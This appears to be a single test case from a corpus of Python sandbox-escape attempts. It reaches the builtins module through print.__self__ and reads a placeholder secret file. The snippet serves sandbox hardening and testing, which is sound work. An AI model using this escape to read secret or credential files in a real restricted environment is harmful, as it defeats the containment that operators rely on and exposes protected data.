# attack: a builtin function knows its module
# family: attribute
b = print.__self__
print("REACHED", b)
print(b.open("$SECRET_FILE").read())
